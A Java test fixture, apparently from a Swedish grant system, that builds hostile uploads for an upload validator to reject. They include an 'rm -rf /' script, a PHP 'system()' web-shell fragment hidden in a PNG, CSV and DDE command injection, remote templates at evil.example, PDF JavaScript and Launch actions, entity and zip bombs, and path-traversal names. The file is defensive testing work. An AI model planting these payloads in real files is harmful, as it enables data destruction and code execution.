package se.delmos.statsbidrag.documents.adapter;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static se.delmos.statsbidrag.documents.adapter.Forge.bytes;
import static se.delmos.statsbidrag.documents.adapter.Forge.deflated;
import static se.delmos.statsbidrag.documents.adapter.Forge.docx;
import static se.delmos.statsbidrag.documents.adapter.Forge.docxParts;
import static se.delmos.statsbidrag.documents.adapter.Forge.joined;
import static se.delmos.statsbidrag.documents.adapter.Forge.openParts;
import static se.delmos.statsbidrag.documents.adapter.Forge.packedObjects;
import static se.delmos.statsbidrag.documents.adapter.Forge.pdf;
import static se.delmos.statsbidrag.documents.adapter.Forge.picture;
import static se.delmos.statsbidrag.documents.adapter.Forge.rawPdf;
import static se.delmos.statsbidrag.documents.adapter.Forge.relation;
import static se.delmos.statsbidrag.documents.adapter.Forge.with;
import static se.delmos.statsbidrag.documents.adapter.Forge.withChunk;
import static se.delmos.statsbidrag.documents.adapter.Forge.xlsxParts;
import static se.delmos.statsbidrag.documents.adapter.Forge.zip;

import java.util.Arrays;
import java.util.Map;
import java.util.stream.Stream;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;

/** Files that must not be received. Those that only a virus scanner knows are not here. */
final class HostileFiles {

    private static final byte[] PDF = pdf("Årsredovisning");
    private static final byte[] PNG = picture("png", 40, 30);
    private static final byte[] JPEG = picture("jpg", 40, 30);
    private static final byte[] JAR = zip(Map.of("Main.class", bytes("\u00ca\u00fe\u00ba\u00be")));
    private static final byte[] OLE = {
        (byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, (byte) 0xa1, (byte) 0xb1, 0x1a, (byte) 0xe1, 0, 0
    };
    private static final String SCRIPT = "<script>alert(1)</script>";
    private static final String ACTION = "3 0 obj\n<</S/%s/F(x)>>\nendobj\n";

    private HostileFiles() {}

    static Stream<HandedIn> all() {
        return Stream.of(names(), kinds(), pdfs(), pictures(), packed(), office(), openDocuments(), texts())
                .flatMap(each -> each);
    }

    private static Stream<HandedIn> names() {
        return Stream.of(
                file("empty file", "tom.pdf", new byte[0]),
                file("program behind a second ending", "ansökan.pdf.exe", PDF),
                file("program's ending before the right one", "ansökan.exe.pdf", PDF),
                file("page's ending before the right one", "ansökan.html.pdf", PDF),
                file("shortcut's ending before the right one", "ansökan.lnk .pdf", PDF),
                file("path upwards", "../../etc/brev.pdf", PDF),
                file("path upwards, of Windows", "..\\..\\brev.pdf", PDF),
                file("name that reads backwards", "brev\u202efdp.pdf", PDF),
                file("name with a hidden direction", "brev\u2066.pdf", PDF),
                file("name that ends in the middle", "brev.pdf\0.exe.pdf", PDF),
                file("very long name", "å".repeat(300) + ".pdf", PDF),
                file("no ending", "brev", PDF),
                file("ending and a dot", "brev.pdf.", PDF));
    }

    private static Stream<HandedIn> kinds() {
        return Stream.of(
                file("program", "program.exe", bytes("MZ\u0090")),
                file("program named pdf", "brev.pdf", bytes("MZ program")),
                file("page", "sida.html", bytes("<html>" + SCRIPT)),
                file("page named txt", "sida.txt", bytes("<!DOCTYPE html><html>" + SCRIPT)),
                file(
                        "picture that runs a script",
                        "bild.svg",
                        bytes("<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT)),
                file("picture that runs a script, named png", "bild.png", bytes("<svg>" + SCRIPT)),
                file("archive", "arkiv.zip", JAR),
                file("archive named docx", "arkiv.docx", JAR),
                file("archive named pdf", "arkiv.pdf", JAR),
                file("rich text", "brev.rtf", bytes("{\\rtf1 {\\object}}")),
                file("old Word file", "brev.doc", OLE),
                file("script of a shell, named txt", "kör.txt", bytes("#!/bin/sh\nrm -rf /\n")),
                file("moving picture with an archive", "bild.gif", joined(bytes("GIF89a"), JAR)),
                file("disc image", "skiva.iso", new byte[40_000]),
                file("png named jpg", "bild.jpg", PNG));
    }

    private static Stream<HandedIn> pdfs() {
        var script = bytes("3 0 <</S/JavaScript/JS(app.alert(1))>>");
        return Stream.of(
                file("pdf with a script", "a.pdf", pdf(document -> {
                    document.addPage(new PDPage());
                    document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"));
                })),
                file("pdf that starts a program", "a.pdf", pdf(document -> {
                    document.addPage(new PDPage());
                    document.getDocumentCatalog().setOpenAction(new PDActionLaunch());
                })),
                file("pdf that starts a program, by hand", "a.pdf", rawPdf(ACTION.formatted("Launch"))),
                file("pdf with a script in disguise", "a.pdf", rawPdf(ACTION.formatted("J#61vaScr#69pt"))),
                file("pdf with a packed script", "a.pdf", rawPdf(packedObjects(deflated(script), "/FlateDecode"))),
                file(
                        "pdf with a script packed twice",
                        "a.pdf",
                        rawPdf(packedObjects(deflated(deflated(script)), "[/FlateDecode/FlateDecode]"))),
                file("pdf with a script packed oddly", "a.pdf", rawPdf(packedObjects(script, "/ASCIIHexDecode"))),
                file(
                        "pdf with a script inside a stream",
                        "a.pdf",
                        rawPdf(
                                "3 0 obj\n<</Length 60>>\nstream\n5 0 obj\n<</S /JavaScript /JS (x)>>\nendobj\nendstream\nendobj\n")),
                file("pdf with an embedded file", "a.pdf", rawPdf("3 0 obj\n<</Type/EmbeddedFile>>\nendobj\n")),
                file("pdf that opens an embedded pdf", "a.pdf", rawPdf(ACTION.formatted("GoToE"))),
                file("pdf that sends a form", "a.pdf", rawPdf(ACTION.formatted("SubmitForm"))),
                file("pdf with a film", "a.pdf", rawPdf(ACTION.formatted("RichMedia"))),
                file("pdf with a form of XML", "a.pdf", rawPdf("3 0 obj\n<</XFA[(a)]>>\nendobj\n")),
                file("pdf with a password", "a.pdf", pdf(document -> {
                    document.addPage(new PDPage());
                    document.protect(new StandardProtectionPolicy("a", "b", new AccessPermission()));
                })),
                file(
                        "pdf that unpacks to 100 MB",
                        "a.pdf",
                        rawPdf(packedObjects(deflated(new byte[100_000_000]), "/FlateDecode"))),
                file("pdf cut off", "a.pdf", Arrays.copyOf(PDF, PDF.length / 2)),
                file("pdf with an archive after it", "a.pdf", joined(PDF, JAR)),
                file("pdf after a page", "a.pdf", joined(bytes("<html>" + SCRIPT), PDF)),
                file("pdf with a page in its first line", "a.pdf", rawPdf("%<html>" + SCRIPT + "\n")));
    }

    private static Stream<HandedIn> pictures() {
        var wide = PNG.clone();
        System.arraycopy(Forge.number(2_000_000), 0, wide, 16, 4);
        return Stream.of(
                file("png with an archive after it", "a.png", joined(PNG, JAR)),
                file("png with a page after it", "a.png", joined(PNG, bytes("<html>" + SCRIPT))),
                file("png with a page inside", "a.png", withChunk(PNG, "tEXt", bytes("Comment\0<html>" + SCRIPT))),
                file(
                        "png with a program of a server inside",
                        "a.png",
                        withChunk(PNG, "tEXt", bytes("C\0<?php system($x);"))),
                file("png of 2 000 000 pixels' width", "a.png", wide),
                file("png cut off", "a.png", Arrays.copyOf(PNG, PNG.length - 20)),
                file("jpeg with an archive after it", "a.jpg", joined(JPEG, JAR)),
                file("jpeg with a page after it", "a.jpg", joined(JPEG, bytes("<script src=x>"))),
                file("jpeg cut off", "a.jpeg", Arrays.copyOf(JPEG, JPEG.length / 2)));
    }

    private static Stream<HandedIn> packed() {
        var many = docxParts("x");
        for (int number = 0; number < 5_000; number++) {
            many.put("word/p" + number + ".xml", new byte[0]);
        }
        return Stream.of(
                file("document of 5 000 parts", "a.docx", zip(many)),
                file(
                        "document that unpacks to 300 MB",
                        "a.docx",
                        with(docxParts("x"), "word/big.xml", new byte[300_000_000])),
                file(
                        "document with another that unpacks to 100 MB",
                        "a.docx",
                        with(
                                docxParts("x"),
                                "word/embeddings/a.xlsx",
                                with(xlsxParts("x"), "xl/big.xml", new byte[100_000_000]))),
                file(
                        "documents three deep",
                        "a.docx",
                        with(
                                docxParts("x"),
                                "word/embeddings/a.docx",
                                with(docxParts("x"), "word/embeddings/b.docx", docx("x")))),
                file("document with an archive", "a.docx", with(docxParts("x"), "word/media/a.zip", JAR)),
                file("document cut off", "a.docx", Arrays.copyOf(docx("text"), 300)),
                file("document with bytes after it", "a.docx", joined(docx("x"), PDF)),
                file("document after a page", "a.docx", joined(bytes("<html>" + SCRIPT), docx("x"))),
                file(
                        "document with a part that lies outside",
                        "a.docx",
                        with(docxParts("x"), "../../a.xml", bytes("<a/>"))),
                file("document with a damaged part", "a.docx", spoilt(docx("text ".repeat(200)))));
    }

    private static Stream<HandedIn> office() {
        var bomb = "<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'lol'><!ENTITY b '&a;&a;&a;'>]><l>&b;</l>";
        return Stream.of(
                file("Word file with macros", "a.docm", docx("x")),
                file(
                        "Word file with macros, named docx",
                        "a.docx",
                        with(docxParts("x"), "word/vbaProject.bin", bytes("Sub AutoOpen"))),
                file(
                        "Excel file with macros, named xlsx",
                        "a.xlsx",
                        with(xlsxParts("x"), "xl/vbaProject.bin", bytes("x"))),
                file(
                        "Excel file with macros of version 4",
                        "a.xlsx",
                        with(xlsxParts("x"), "xl/macrosheets/sheet1.xml", bytes("<a/>"))),
                file(
                        "Word file whose list says macros",
                        "a.docx",
                        with(
                                docxParts("x"),
                                "[Content_Types].xml",
                                bytes(
                                        "<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>"))),
                file("Excel file named docx", "a.docx", zip(xlsxParts("x"))),
                file("document with a password", "a.docx", OLE),
                file(
                        "Word file with a packed object",
                        "a.docx",
                        with(docxParts("x"), "word/embeddings/oleObject1.bin", OLE)),
                file(
                        "Word file with a program",
                        "a.docx",
                        with(docxParts("x"), "word/media/bild.png", bytes("MZ\u0090"))),
                file(
                        "Word file with a control",
                        "a.docx",
                        with(docxParts("x"), "word/activeX/activeX1.xml", bytes("<a/>"))),
                file(
                        "Word file with a template on a server",
                        "a.docx",
                        with(
                                docxParts("x"),
                                "word/_rels/settings.xml.rels",
                                relation("attachedTemplate", "https://evil.example/a.dotm"))),
                file(
                        "Word file with an object on a server",
                        "a.docx",
                        with(
                                docxParts("x"),
                                "word/_rels/document.xml.rels",
                                relation("oleObject", "mhtml:http://evil.example/a!x"))),
                file(
                        "Word file with a template on a share",
                        "a.docx",
                        with(
                                docxParts("x"),
                                "word/_rels/settings.xml.rels",
                                relation("attachedTemplate", "file://evil.example/a.dotm"))),
                file(
                        "Word file that starts a program by a field",
                        "a.docx",
                        docx("<w:instrText>DDEAUTO c:\\\\cmd</w:instrText>")),
                file(
                        "Excel file that asks another program",
                        "a.xlsx",
                        with(
                                xlsxParts("x"),
                                "xl/externalLinks/l.xml",
                                bytes("<externalLink><ddeLink ddeService='cmd'/></externalLink>"))),
                file("Word file with a growing text", "a.docx", with(docxParts("x"), "word/styles.xml", bytes(bomb))),
                file(
                        "Word file with a growing list of parts",
                        "a.docx",
                        with(docxParts("x"), "[Content_Types].xml", bytes(bomb))));
    }

    private static Stream<HandedIn> openDocuments() {
        return Stream.of(
                file(
                        "OpenDocument text with macros",
                        "a.odt",
                        with(openParts("text", "x"), "Basic/Standard/M.xml", bytes("<a/>"))),
                file(
                        "OpenDocument table with scripts",
                        "a.ods",
                        with(openParts("spreadsheet", "x"), "Scripts/python/a.py", bytes("x"))),
                file(
                        "OpenDocument text with a password",
                        "a.odt",
                        with(
                                openParts("text", "x"),
                                "META-INF/manifest.xml",
                                bytes("<manifest:manifest><manifest:encryption-data/></manifest:manifest>"))),
                file("OpenDocument table named odt", "a.odt", zip(openParts("spreadsheet", "x"))),
                file("OpenDocument text with a growing text", "a.odt", zip(openParts("text", "<!ENTITY a 'x'>"))),
                file("OpenDocument text with a packed object", "a.odt", with(openParts("text", "x"), "Object 1", OLE)));
    }

    private static Stream<HandedIn> texts() {
        return Stream.of(
                file("text with a page inside", "a.txt", bytes("Hej\n" + SCRIPT)),
                file("text with bytes that are no letters", "a.txt", new byte[] {'H', 'e', 'j', 0, 1, 2}),
                file("text with an archive after it", "a.txt", joined(bytes("Hej\n"), JAR)),
                file("table that starts a program", "a.csv", bytes("namn;belopp\n=cmd|' /C calc'!A0;1\n")),
                file("table that starts a program, with a plus", "a.csv", bytes("namn;belopp\nA;+cmd|' /C calc'!A0\n")),
                file("table that is a page", "a.csv", bytes("<html><table>" + SCRIPT)));
    }

    /** Spoils bytes in the middle of the last part, so that its sum no longer agrees. */
    private static byte[] spoilt(byte[] whole) {
        var text = new String(whole, ISO_8859_1);
        int at = text.indexOf("word/document.xml", text.lastIndexOf("PK\u0003\u0004"))
                + "word/document.xml".length()
                + 6;
        var changed = whole.clone();
        for (int next = at; next < at + 6; next++) {
            changed[next] ^= 0x55;
        }
        return changed;
    }

    private static HandedIn file(String what, String name, byte[] content) {
        return new HandedIn(what, name, content);
    }
}
